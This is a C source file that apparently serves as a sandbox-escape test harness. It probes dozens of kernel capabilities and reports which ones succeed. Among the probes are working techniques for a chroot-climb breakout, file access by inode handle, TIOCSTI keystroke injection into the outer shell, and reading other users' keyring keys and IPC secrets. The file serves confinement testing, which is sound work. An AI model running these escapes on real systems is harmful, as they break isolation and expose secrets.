// The machine itself: what only root may do, and what any user may do to its
// own outside. Where an act would hurt, it writes what was there before.
#include "attack.h"
#include <mqueue.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/filter.h>
#include <linux/reboot.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <sys/inotify.h>
#include <linux/if.h>
#include <linux/if_tun.h>
#include <sys/ioctl.h>
#include <sys/quota.h>
#include <sys/klog.h>
#include <sys/msg.h>
#include <sys/shm.h>
#include <sys/sysmacros.h>
#include <sys/timex.h>
#include <time.h>

static void rewrite(char **a) { // write back what a file of the kernel says
	char buf[4096];
	int fd = TRY(open(a[0], O_RDWR));
	ssize_t n = TRY(read(fd, buf, sizeof buf - 1));
	if (n == 0) buf[n++] = '\n';
	TRY(pwrite(fd, buf, n, 0));
	won("KERNEL-FILE-WRITTEN");
}
static void clock_(char **a) {
	struct timespec t;
	(void)a;
	clock_gettime(CLOCK_REALTIME, &t);
	TRY(clock_settime(CLOCK_REALTIME, &t));
	won("CLOCK-SET");
}
static void adjust(char **a) {
	(void)a;
	struct timex t = {.modes = ADJ_OFFSET_SINGLESHOT, .offset = 0};
	TRY(adjtimex(&t));
	won("CLOCK-SET");
}
static void hostname(char **a) {
	char b[256] = "";
	(void)a;
	TRY(gethostname(b, sizeof b - 1));
	TRY(sethostname(b, strlen(b)));
	won("HOSTNAME-SET");
}
static void reboot_(char **a) { // only what ctrl-alt-del does
	(void)a;
	TRY(syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_CAD_OFF, 0));
	won("REBOOT-SET");
}
static void klog(char **a) {
	(void)a;
	TRY(klogctl(10 /* SYSLOG_ACTION_SIZE_BUFFER */, NULL, 0));
	char *b = malloc(1 << 20);
	TRY(klogctl(3 /* READ_ALL */, b, 1 << 20));
	won("KERNEL-LOG-READ");
}
static void chroot_(char **a) { // directory, file seen from there
	TRY(chroot(a[0]));
	show(TRY(open(a[1], O_RDONLY)));
}
static void breakout(char **a) { // the oldest one: chroot below, then climb
	mkdir("cell", 0755);
	TRY(chroot("cell"));
	for (int i = 0; i < 64; i++) TRY(chdir(".."));
	show(TRY(open(a[0] + 1, O_RDONLY)));
}
static void pivot(char **a) { // directory: make it the root of a namespace of one's own
	TRY(unshare(CLONE_NEWNS));
	TRY(mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL));
	TRY(mount(a[0], a[0], NULL, MS_BIND, NULL));
	TRY(chdir(a[0]));
	TRY(syscall(SYS_pivot_root, ".", "."));
	show(TRY(open(a[1], O_RDONLY)));
}
static void mount_(char **a) { // lay a file system over a directory
	(void)a;
	TRY(unshare(CLONE_NEWNS));
	TRY(mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL));
	TRY(mount("none", "/mnt", "tmpfs", 0, NULL));
	won("MOUNTED");
}
static void proc(char **a) { // a second /proc, with nothing hidden in it
	(void)a;
	TRY(unshare(CLONE_NEWNS));
	TRY(mkdir("proc2", 0755));
	TRY(mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL));
	TRY(mount("proc", "proc2", "proc", 0, NULL));
	won("MOUNTED");
}
static void newmount(char **a) { // the newer calls for the same
	(void)a;
	int fd = TRY(syscall(SYS_fsopen, "tmpfs", 0));
	TRY(syscall(SYS_fsconfig, fd, 6 /* CREATE */, NULL, NULL, 0));
	TRY(syscall(SYS_fsmount, fd, 0, 0));
	won("MOUNTED");
}
static void opentree(char **a) { // a detached copy of the tree above the secret
	int fd = TRY(syscall(SYS_open_tree, AT_FDCWD, a[0], 1 | O_CLOEXEC));
	show(TRY(openat(fd, a[1], O_RDONLY)));
}
static void node(char **a) { // a device of one's own, by the numbers of another
	struct stat st;
	TRY(stat(a[0], &st));
	TRY(mknod("node", (st.st_mode & S_IFMT) | 0600, st.st_rdev));
	TRY(open("node", O_RDONLY | O_NONBLOCK));
	won("DEVICE-OPEN");
}
static void device(char **a) {
	TRY(open(a[0], O_RDONLY | O_NONBLOCK));
	won("DEVICE-OPEN");
}
static void handle(char **a) { // a file by its inode, past every path
	struct { struct file_handle h; char b[128]; } f = {.h = {.handle_bytes = 128}};
	int id;
	TRY(name_to_handle_at(AT_FDCWD, a[0], &f.h, &id, 0));
	int m = TRY(open(".", O_RDONLY | O_DIRECTORY));
	show(TRY(open_by_handle_at(m, &f.h, O_RDONLY)));
}
static void bpf(char **a) {
	(void)a;
	union bpf_attr at = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 8, .max_entries = 1};
	TRY(syscall(SYS_bpf, BPF_MAP_CREATE, &at, sizeof at));
	won("BPF-MADE");
}
static void perf(char **a) {
	(void)a;
	struct perf_event_attr at = {.type = PERF_TYPE_SOFTWARE, .size = sizeof at, .config = PERF_COUNT_SW_TASK_CLOCK,
		.exclude_kernel = 1, .exclude_hv = 1};
	TRY(syscall(SYS_perf_event_open, &at, 0, -1, -1, 0));
	won("PERF-OPEN");
}
static void keys(char **a) { // description: a key that somebody else left in the user's keyring
	char b[256] = "";
	TRY(syscall(SYS_keyctl, KEYCTL_LINK, KEY_SPEC_USER_KEYRING, KEY_SPEC_PROCESS_KEYRING));
	long k = TRY(syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_PROCESS_KEYRING, "user", a[0], 0));
	TRY(syscall(SYS_keyctl, KEYCTL_READ, k, b, sizeof b - 1));
	won(b);
}
static void leave_key(char **a) { // for the harness: description, secret
	TRY(syscall(SYS_add_key, "user", a[0], a[1], strlen(a[1]), KEY_SPEC_USER_KEYRING));
}
static void shm(char **a) { // key
	char *p = shmat(TRY(shmget(strtol(a[0], NULL, 0), 0, 0)), NULL, SHM_RDONLY);
	if (p == (void *)-1) refused("shmat");
	won(p);
}
static void msg(char **a) {
	struct { long type; char text[256]; } m = {0};
	TRY(msgrcv(TRY(msgget(strtol(a[0], NULL, 0), 0)), &m, 255, 0, IPC_NOWAIT));
	won(m.text);
}
static void mq(char **a) {
	char b[8192] = "";
	mqd_t q = TRY(mq_open(a[0], O_RDONLY | O_NONBLOCK));
	TRY(mq_receive(q, b, sizeof b, NULL));
	won(b);
}
// leave_ipc is for the harness: a segment and queues with a secret, until input ends.
static void leave_ipc(char **a) { // shm key, msg key, mq name
	struct { long type; char text[256]; } m = {.type = 1};
	ssize_t n = TRY(read(0, m.text, 255));
	int s = TRY(shmget(strtol(a[0], NULL, 0), 4096, IPC_CREAT | 0600));
	memcpy(shmat(s, NULL, 0), m.text, n);
	int q = TRY(msgget(strtol(a[1], NULL, 0), IPC_CREAT | 0600));
	struct mq_attr at = {.mq_maxmsg = 2, .mq_msgsize = 256};
	mqd_t p = TRY(mq_open(a[2], O_CREAT | O_RDWR, 0600, &at));
	for (int i = 0; i < 2; i++) { // one for the control, one for the governed run
		TRY(msgsnd(q, &m, n, 0));
		TRY(mq_send(p, m.text, n, 0));
	}
	printf("ok\n");
	fflush(stdout);
	while (read(0, m.text, 1) > 0);
	shmctl(s, IPC_RMID, NULL);
	msgctl(q, IPC_RMID, NULL);
	mq_unlink(a[2]);
}
static void watch(char **a) { // who does what in a directory outside
	char b[4096];
	int fd = TRY(inotify_init1(0));
	TRY(inotify_add_watch(fd, a[0], IN_CREATE));
	ready();
	alarm(20);
	TRY(read(fd, b, sizeof b));
	won(((struct inotify_event *)b)->name);
}
static void type(char **a) { // type into the terminal what the shell outside will read
	for (char *c = a[0]; *c; c++) TRY(ioctl(0, TIOCSTI, c));
	char nl = '\n';
	TRY(ioctl(0, TIOCSTI, &nl));
}
static void realtime(char **a) { // before every other process of the machine
	(void)a;
	struct sched_param p = {.sched_priority = 1};
	TRY(sched_setscheduler(0, SCHED_FIFO, &p));
	won("REAL-TIME");
}
static void cgroup(char **a) { // leave the cgroup that one was put in
	char p[4096], me[16];
	snprintf(p, sizeof p, "%s/%s", a[0], a[1]);
	TRY(mkdir(p, 0755));
	strcat(p, "/cgroup.procs");
	snprintf(me, sizeof me, "%d", getpid());
	pid_t c = TRY(fork());
	if (c == 0) {
		int fd = TRY(open(p, O_WRONLY));
		TRY(write(fd, "0", 1));
		_exit(0);
	}
	int st;
	TRY(waitpid(c, &st, 0));
	*strrchr(p, '/') = 0;
	rmdir(p);
	if (st) {
		errno = EPERM;
		refused("cgroup.procs");
	}
	won("CGROUP-LEFT");
}
static void caps(char **a) { // become somebody else
	(void)a;
	TRY(setresuid(65533, 65533, 65533));
	won("UID-CHANGED");
}
static void namespaces(char **a) {
	(void)a;
	TRY(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET));
	won("NAMESPACES-MADE");
}
static void fanotify(char **a) { // see, with descriptors, each file that anybody opens
	(void)a;
	TRY(syscall(SYS_fanotify_init, 0, O_RDONLY));
	won("FANOTIFY-OPEN");
}
static void fanotify_fid(char **a) { // the same by names, for which no right is needed
	(void)a;
	TRY(syscall(SYS_fanotify_init, 0x200 /* FAN_REPORT_FID */, O_RDONLY));
	won("FANOTIFY-OPEN");
}
static void quota(char **a) {
	(void)a;
	TRY(quotactl(QCMD(Q_SYNC, USRQUOTA), NULL, 0, NULL));
	won("QUOTAS-SYNCED");
}
static void tunnel(char **a) { // a network interface of one's own
	struct ifreq r = {.ifr_flags = IFF_TUN | IFF_NO_PI};
	(void)a;
	TRY(ioctl(TRY(open("/dev/net/tun", O_RDWR)), TUNSETIFF, &r));
	won("INTERFACE-MADE");
}
static void symbols(char **a) { // where the kernel lies
	char line[512];
	(void)a;
	FILE *f = fopen("/proc/kallsyms", "r");
	if (!f) refused("/proc/kallsyms");
	while (fgets(line, sizeof line, f))
		if (strtoul(line, NULL, 16)) won("KERNEL-ADDRESS-READ");
	errno = EPERM;
	refused("every address is 0");
}
static void into(char **a) { // cgroup, token: be born in another cgroup
	char p[4096];
	snprintf(p, sizeof p, "%s/%s", a[0], a[1]);
	TRY(mkdir(p, 0755));
	int fd = open(p, O_PATH | O_DIRECTORY);
	uint64_t args[11] = {0x200000000ULL /* CLONE_INTO_CGROUP */};
	args[4] = SIGCHLD;
	args[10] = fd;
	pid_t c = syscall(SYS_clone3, args, sizeof args);
	if (c == 0) _exit(0);
	int e = errno;
	if (c > 0) waitpid(c, NULL, 0);
	rmdir(p);
	errno = e;
	TRY(c);
	won("CGROUP-LEFT");
}
static void listener(char **a) { // answer system calls in the supervisor's place
	struct sock_filter f[] = {BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_execve, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF), BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
	struct sock_fprog p = {4, f};
	(void)a;
	TRY(prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
	TRY(syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &p));
	won("LISTENER-MADE");
}
static void acct_(char **a) {
	(void)a;
	TRY(acct(NULL));
	won("ACCOUNTING-SET");
}
static const struct technique all[] = {
	{"rewrite", rewrite}, {"clock", clock_}, {"adjtimex", adjust}, {"hostname", hostname},
	{"reboot", reboot_}, {"klog", klog}, {"chroot", chroot_}, {"chroot-climb", breakout}, {"pivot", pivot},
	{"mount", mount_}, {"proc", proc}, {"fsopen", newmount}, {"open-tree", opentree}, {"mknod", node},
	{"device", device}, {"handle", handle}, {"bpf", bpf}, {"perf", perf}, {"keys", keys},
	{"leave-key", leave_key}, {"shm", shm}, {"msg", msg}, {"mq", mq}, {"leave-ipc", leave_ipc},
	{"inotify", watch}, {"tiocsti", type}, {"realtime", realtime}, {"cgroup", cgroup}, {"setuid", caps},
	{"namespaces", namespaces}, {"fanotify", fanotify},
	{"listener", listener}, {"fanotify-fid", fanotify_fid}, {"quota", quota}, {"tunnel", tunnel},
	{"symbols", symbols}, {"into", into}, {"acct", acct_}, {0},
};
int main(int argc, char **argv) { return pick(all, argc, argv); }
